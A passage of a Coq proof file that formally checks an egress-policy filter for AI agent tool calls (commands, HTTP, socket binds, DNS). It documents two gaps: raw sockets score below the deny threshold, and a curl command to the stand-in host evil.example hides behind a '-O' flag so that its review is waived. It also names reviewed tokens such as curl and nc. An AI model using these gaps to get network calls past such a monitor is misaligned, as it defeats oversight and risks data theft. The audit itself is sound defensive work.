  destruct (is_loopback_bind_address address); [by apply Hfin|].
  destruct (_ && _ && _); [apply fixed_score_ok; rewrite !elem_of_cons; by auto 10|].
  destruct (_ && _ && _ && _); [apply fixed_score_ok; rewrite !elem_of_cons; by auto 10|].
  destruct (listen_review_rule _ _ _) as [[rule msg]|]; [|apply no_match_ok].
  apply Hfin. cbn. apply fixed_score_ok. rewrite !elem_of_cons. auto 10.
Qed.

Lemma evaluate_call_ok f ctx : outcome_ok (well_scored f) (evaluate_call f ctx).
Proof.
  unfold evaluate_call. set (profile := mbind _ _).
  destruct (ctx_call_type ctx) as [| | | | |command args|method url| | | | |address port|address port
    |command args|domain query_type| | | | |]; try done.
  - destruct (full_command ctx); [|done]. apply scan_command_text_ok, select_ok; [done|].
    apply evaluate_command_tokens_ok.
  - unfold evaluate_http. cbn [outcome_ok].
    assert (Hbest : signal_ok (well_scored f) match parse_url_destination url with
      | Some dest => select_higher_risk (select_higher_risk None
          (evaluate_destination f dest "http_request" profile)) (evaluate_unusual_port f dest "http_request")
      | None => None end).
    { destruct (parse_url_destination url); [|done].
      apply select_ok; [apply select_ok; [done|apply evaluate_destination_ok]|apply evaluate_unusual_port_ok]. }
    match goal with |- signal_ok _ (if ?c then _ else _) => destruct c end; [|exact Hbest].
    apply select_ok; [exact Hbest|apply evaluate_protocol_signals_ok].
  - apply evaluate_net_connect_ok.
  - apply evaluate_net_listen_ok.
  - unfold evaluate_spawn. set (best := if is_browser_subprocess_spawn _ _ then _ else _).
    assert (Hb : signal_ok (well_scored f) best).
    { unfold best. destruct (is_browser_subprocess_spawn _ _); [done|].
      apply select_ok; [done|apply evaluate_command_tokens_ok]. }
    destruct (String.eqb _ ""); [done|]. by apply scan_command_text_ok.
  - apply evaluate_dns_ok.
Qed.

End Lemmas.

(** ** Properties *)

Section Properties.
Context `{D : Deps} `{U : Unicode} `{!EgressDeps}.

Lemma evaluate_well_scored f ctx : well_scored f (egress_policy_evaluate f ctx).
Proof.
  unfold egress_policy_evaluate. pose proof (evaluate_call_ok f ctx) as Hok.
  destruct (evaluate_call f ctx) as [r|best shape]; cbn in Hok; [done|].
  assert (Hr : well_scored f (default (no_match "egress-policy") best)).
  { destruct best as [r|]; [done|]. apply no_match_ok. }
  by destruct shape.
Qed.

Definition is_raw_socket (ctx : ToolCallContext) : bool :=
  match ctx_call_type ctx with
  | NetConnect address _ | NetListen address _ => starts_with "raw:" address
  | _ => false
  end.

Lemma raw_socket_score f ctx : is_raw_socket ctx = true →
  fr_score (egress_policy_evaluate f ctx) = RAW_SOCKET_SCORE.
Proof.
  unfold is_raw_socket, egress_policy_evaluate, evaluate_call. intros Hr.
  destruct (ctx_call_type ctx); try done; unfold evaluate_net_connect, evaluate_net_listen; by rewrite Hr.
Qed.

(** C30: For any configuration, URL, command line and query the score of the egress
    policy is at least the trusted credit of -1 and at most 9 in enforcing mode and 7
    otherwise, and outside the enforcing mode it alone puts no call over the denial
    threshold. Raw sockets are no exception, and that is not what the source means: the
    comment at egress_policy.rs:826-829 wants them well above the threshold regardless
    of mode. A clause of its own states what the code does: a raw socket, connected or
    bound, scores exactly 7 in every mode, which is below the threshold of 8 (finding).
    *)
Theorem egress_policy_bounded f ctx :
  let s := fr_score (egress_policy_evaluate f ctx) in
  f64_le (f64_of_Z (-1)) s = true ∧ f64_le s (score_ceiling f) = true
  ∧ (ep_mode f ≠ Enforce → is_raw_socket ctx = false → f64_gt s SCORE_DENY_THRESHOLD = false)
  ∧ (is_raw_socket ctx = true → s = f64_of_Z 7 ∧ f64_gt s SCORE_DENY_THRESHOLD = false).
Proof.
  cbv zeta. destruct (evaluate_well_scored f ctx) as (_ & _ & Hb). unfold in_bounds in Hb.
  assert (Hraw := raw_socket_score f ctx). set (s := fr_score _) in *.
  rewrite !andb_true_iff in Hb. destruct Hb as [[Hc Hlo] Hhi].
  split; [done|]. split; [done|]. split; [|intros Hr; by rewrite Hraw].
  intros Hmode _. apply comparable_b_spec in Hc.
  destruct (f64_gt s SCORE_DENY_THRESHOLD) eqn:E; [|done].
  assert (Hle : f64_le SCORE_DENY_THRESHOLD (score_ceiling f) = true).
  { apply (f64_le_trans _ s); [done|by destruct Hc|by unfold score_ceiling; destruct (ep_mode f)| |done].
    by apply f64_gt_le. }
  unfold score_ceiling in Hle. by destruct (ep_mode f).
Qed.

Lemma destination_signal_matched f dest source profile r :
  evaluate_destination f dest source profile = Some r → fr_matched r = true.
Proof.
  unfold evaluate_destination, unknown_destination. repeat case_match; try done; by intros [= <-].
Qed.

Lemma port_signal_matched f dest source r :
  evaluate_unusual_port f dest source = Some r → fr_matched r = true.
Proof.
  unfold evaluate_unusual_port. destruct (effective_port dest); cbn [mbind option_bind]; [|done].
  case_decide; [by intros [= <-]|done].
Qed.

(** A bind is a client's when nothing declares it and its port is the kernel's to
    choose, or a datagram port that serves nobody. *)
Definition client_bind (ctx : ToolCallContext) (address : string) (port : Z) : bool :=
  negb (bool_decide (is_Some (ctx_listener_policy_match ctx)))
  && bool_decide (is_Some (parse_ip address))
  && ((port =? 0)%Z || (bool_decide (ctx_bind_protocol ctx = Some Udp) && negb (is_udp_service_port port))).

Definition clamped_bind (ctx : ToolCallContext) (address : string) : bool :=
  is_wildcard_bind_address address
  && match ctx_listener_policy_match ctx with Some m => lpm_allow_clamp m | None => false end.

(** The decision matrix of listeners.  A bind outside loopback is recorded at
    the client-socket score exactly when it is a client's, passes without a score
    exactly when the profile declares it and lets it be clamped to loopback, and
    otherwise scores at least five, whatever the judgement of its address and port
    as a destination adds; no trusted domain lowers it. *)
Theorem listen_matrix f ctx address port
    (Hcall : ctx_call_type ctx = NetListen address port)
    (Hraw : starts_with "raw:" address = false)
    (Hcontrol : unix_socket_class ctx ≠ Some Control)
    (Hloopback : is_loopback_bind_address address = false) :
  let r := egress_policy_evaluate f ctx in
  if client_bind ctx address port then fr_matched r = true ∧ fr_score r = LISTEN_CLIENT_SCORE
  else if clamped_bind ctx address then r = no_match "egress-policy"
  else fr_matched r = true ∧ f64_le LISTEN_REVIEW_SCORE (fr_score r) = true.
Proof.
  cbv zeta. unfold egress_policy_evaluate, evaluate_call. rewrite Hcall.
  set (profile := mbind _ _). unfold evaluate_net_listen. rewrite Hraw, Hloopback.
  rewrite bool_decide_false by done. unfold client_bind, clamped_bind.
  set (declared := bool_decide (is_Some (ctx_listener_policy_match ctx))).
  set (ip := bool_decide (is_Some (parse_ip address))).
  set (udp := bool_decide (ctx_bind_protocol ctx = Some Udp)).
  destruct ((port =? 0)%Z && negb declared && ip) eqn:E1.
  { rewrite !andb_true_iff in E1. destruct E1 as [[-> ->] ->]. done. }
  destruct (negb declared && ip && udp && negb (is_udp_service_port port)) eqn:E2.
  { rewrite !andb_true_iff in E2. destruct E2 as [[[-> ->] ->] ->]. by rewrite orb_true_r. }
  replace (negb declared && ip && ((port =? 0)%Z || udp && negb (is_udp_service_port port))) with false.
  2:{ by destruct declared, ip, (port =? 0)%Z, udp, (is_udp_service_port port). }
  assert (Hfinal : ∀ rule msg, let best := select_higher_risk (select_higher_risk
      (Some (ep_matched rule LISTEN_REVIEW_SCORE msg))
      (evaluate_destination f (parse_net_destination address port) "net_listen" profile))
      (evaluate_unusual_port f (parse_net_destination address port) "net_listen") in
    fr_matched (default (no_match "egress-policy") best) = true
    ∧ f64_le LISTEN_REVIEW_SCORE (fr_score (default (no_match "egress-policy") best)) = true).
  { intros rule msg. cbv zeta.
    set (a := evaluate_destination f _ "net_listen" profile).
    set (b := evaluate_unusual_port f _ "net_listen").
    assert (Hin : ∀ o, signal_ok (well_scored f) o → signal_ok (λ r, comparable_b (fr_score r) = true) o).
    { intros [o|] Ho; [|done]. destruct Ho as (_ & _ & Ho). unfold in_bounds in Ho. cbn.
      by destruct (comparable_b _). }
    assert (Hle : ∃ r, select_higher_risk (select_higher_risk (Some (ep_matched rule LISTEN_REVIEW_SCORE msg)) a) b
                        = Some r ∧ at_least LISTEN_REVIEW_SCORE (fr_score r) = true).
    { apply select_at_least; [by split|apply Hin, evaluate_unusual_port_ok|].
      apply select_at_least; [by split|apply Hin, evaluate_destination_ok|]. by eexists. }
    destruct Hle as (r & Hr & Hle). rewrite Hr. cbn [default]. unfold id. split.
    - destruct (select_higher_risk_cases (select_higher_risk (Some (ep_matched rule LISTEN_REVIEW_SCORE msg)) a) b)
        as [Hs|Hs]; rewrite Hs in Hr; [|by apply port_signal_matched in Hr].
      destruct (select_higher_risk_cases (Some (ep_matched rule LISTEN_REVIEW_SCORE msg)) a)
        as [Hs'|Hs']; rewrite Hs' in Hr; [by injection Hr as <-|by apply destination_signal_matched in Hr].
    - unfold at_least in Hle. by apply andb_true_iff in Hle as [_ Hle]. }
  unfold listen_review_rule. destruct (is_wildcard_bind_address address); [|apply Hfinal].
  destruct (ctx_listener_policy_match ctx) as [m|]; [|apply Hfinal].
  destruct (lpm_allow_clamp m); [done|apply Hfinal].
Qed.

Lemma bare_loop_false is_trusted prev tokens i before t :
  bare_destination_loop is_trusted prev tokens = false →
  (prev :: tokens) !! i = Some before → tokens !! i = Some t →
  bare_token_skipped before t = true ∨ untrusted_bare_token is_trusted t = false.
Proof.
  revert prev i. induction tokens as [|t' tokens IH]; intros prev i; cbn [bare_destination_loop]; [done|].
  rewrite orb_false_iff. intros [Hhead Htail]. destruct i as [|i]; cbn [lookup list_lookup].
  - intros [= <-] [= <-]. apply andb_false_iff in Hhead as [Hs%negb_false_iff|]; auto.
  - by apply IH.
Qed.

(** The review of a fetch is waived only for trusted destinations.  When a
    command names a token under review and none that is blocked, and the token is
    let through, then the command has URLs, the host of each is trusted or an
    allowed local one, and every other word is passed over as a flag, a flag's
    value, a data source or a local path, or names a private address, a trusted
    host or no host. *)
Theorem review_waived_only_for_trusted f command profile
    (Hblocked : List.find (names_token (map token_basename (split_whitespace command)))
                  (ep_blocked_command_tokens f) = None)
    (Hreview : is_Some (List.find (names_token (map token_basename (split_whitespace command)))
                  (ep_review_command_tokens f)))
    (Hwaived : evaluate_command_tokens f command profile = None) :
  let trusted host := is_trusted_or_allowed_local f host profile in
  let dests := extract_destinations_from_command command in
  dests ≠ [] ∧ (∀ d, d ∈ dests → trusted (to_lowercase (dst_host d)) = true)
  ∧ ∀ i before t,
      split_whitespace command !! i = Some before → split_whitespace command !! S i = Some t →
      bare_token_skipped before t = true
      ∨ match parse_ip (bare_host t) with
        | Some _ => is_private_or_local_host (bare_host t) = true
        | None => looks_like_hostname (bare_host t) = false ∨ trusted (to_lowercase (bare_host t)) = true
        end.
Proof.
  cbv zeta. unfold evaluate_command_tokens in Hwaived. rewrite Hblocked in Hwaived.
  destruct Hreview as [token Ht]. rewrite Ht in Hwaived. cbn [mbind option_bind] in Hwaived.
  destruct (command_targets_only_trusted_destinations f command profile) eqn:E; [|done].
  unfold command_targets_only_trusted_destinations in E.
  destruct (decide (extract_destinations_from_command command = [])); [done|].
  apply andb_true_iff in E as [Hall Hbare]. split_and!; [done| |].
  - apply forallb_true_Forall in Hall. by apply Forall_forall.
  - intros i before t Hb Hi. apply negb_true_iff in Hbare.
    unfold command_has_untrusted_bare_destination in Hbare.
    destruct (split_whitespace command) as [|program tokens]; [done|].
    apply (bare_loop_false _ _ _ i before t) in Hbare as [Hs|Hu]; [by left|right|done|done].
    unfold untrusted_bare_token in Hu. destruct (parse_ip (bare_host t)); [by apply negb_false_iff|].
    apply andb_false_iff in Hu as [?|Hu%negb_false_iff]; auto.
Qed.

End Properties.

(** ** Witnesses *)

Module Example_command.
#[local] Existing Instance concrete_deps.
#[local] Existing Instance ascii_unicode.

(** The words with a scheme stand for the pattern's captures. *)
Definition example_deps : EgressDeps := {|
  command_urls command := List.filter (contains "://") (split_whitespace command);
  f64_log2 _ := f64_zero;
  f64_display _ := "4.5";
  json_bool := JBool;
  json_string_array _ := None;
|}.

Definition f : EgressPolicyFilter := Example_egress.f.

(** [curl -O] takes no value: what follows is fetched. *)
Definition hidden : string := "curl -O evil.example/x https://github.com/y".
Definition plain : string := "curl evil.example/x https://github.com/y".

Definition bind (port : Z) : ToolCallContext :=
  ToolCallContext_new uuid_a 0%Z "p" (NetListen "0.0.0.0" port) uuid_b.

Example basenames :
  map token_basename ["/usr/bin/curl;"; "./bin/nc"; "curl"; "dir/"; "digest"]
  = ["curl"; "nc"; "curl"; "dir/"; "digest"].
Proof. vm_compute. reflexivity. Qed.

Example hostnames :
  map looks_like_hostname ["evil.example.com"; "output.json"; "localhost"; "a..b"; "10.0.0.1"; "evil.example."]
  = [true; true; false; false; false; false].
Proof. vm_compute. reflexivity. Qed.
End Example_command.

Section Gap.
#[local] Existing Instance concrete_deps.
#[local] Existing Instance ascii_unicode.
Context `{!EgressDeps}.

(** The value of a flag that takes none hides a destination.  The table of
    value-taking flags mixes curl's and wget's: [curl -O] takes no value, so in
    [curl -O evil.example/x https://github.com/y] both addresses are fetched, but the
    first is passed over as the flag's value and the review of the command is waived;
    without the flag the same command is reviewed. *)
Theorem flag_value_hides_destination
    (Hhidden : command_urls Example_command.hidden = ["https://github.com/y"])
    (Hplain : command_urls Example_command.plain = ["https://github.com/y"]) :
  evaluate_command_tokens Example_command.f Example_command.hidden None = None
  ∧ evaluate_command_tokens Example_command.f Example_command.plain None
    = Some (ep_matched "review-egress-command-token" (f64_dec 35 1) "Review outbound command token: curl").
Proof.
  unfold evaluate_command_tokens, command_targets_only_trusted_destinations,
    extract_destinations_from_command.
  rewrite Hhidden, Hplain. split; vm_compute; reflexivity.
Qed.
End Gap.

#[local] Existing Instance Example_command.example_deps.

Lemma flag_value_hides_destination_witness :
  evaluate_command_tokens (D := concrete_deps) (U := ascii_unicode) Example_command.f
    Example_command.hidden None = None.
Proof.
  exact (proj1 (@flag_value_hides_destination Example_command.example_deps eq_refl eq_refl)).
Defined.

Lemma egress_policy_bounded_witness :
  let D := concrete_deps in
  let U := ascii_unicode in
  f64_gt (fr_score (egress_policy_evaluate Example_command.f (Example_command.bind 8080)))
    SCORE_DENY_THRESHOLD = false.
Proof.
  intros D U.
  destruct (@egress_policy_bounded concrete_deps ascii_unicode Example_command.example_deps
    Example_command.f (Example_command.bind 8080)) as (_ & _ & H & _).
  apply H; [discriminate|reflexivity].
Defined.

(** An undeclared wildcard bind, and the kernel's port. *)
Lemma listen_matrix_witness :
  let D := concrete_deps in
  let U := ascii_unicode in
  let r port := egress_policy_evaluate Example_command.f (Example_command.bind port) in
  (fr_matched (r 8080%Z) = true ∧ f64_le LISTEN_REVIEW_SCORE (fr_score (r 8080%Z)) = true)
  ∧ (fr_matched (r 0%Z) = true ∧ fr_score (r 0%Z) = LISTEN_CLIENT_SCORE).
Proof.
  intros D U r. split.
  - apply (@listen_matrix concrete_deps ascii_unicode Example_command.example_deps Example_command.f
      (Example_command.bind 8080) "0.0.0.0" 8080); first [reflexivity|vm_compute; discriminate].
  - apply (@listen_matrix concrete_deps ascii_unicode Example_command.example_deps Example_command.f
      (Example_command.bind 0) "0.0.0.0" 0); first [reflexivity|vm_compute; discriminate].
Defined.

Lemma review_waived_only_for_trusted_witness :
  let D := concrete_deps in
  let U := ascii_unicode in
  extract_destinations_from_command "curl -o out.json https://api.github.com/x" ≠ [].
Proof.
  intros D U.
  apply (@review_waived_only_for_trusted concrete_deps ascii_unicode Example_command.example_deps
    Example_command.f "curl -o out.json https://api.github.com/x" None);
    [vm_compute; reflexivity|vm_compute; by eexists|vm_compute; reflexivity].
Defined.
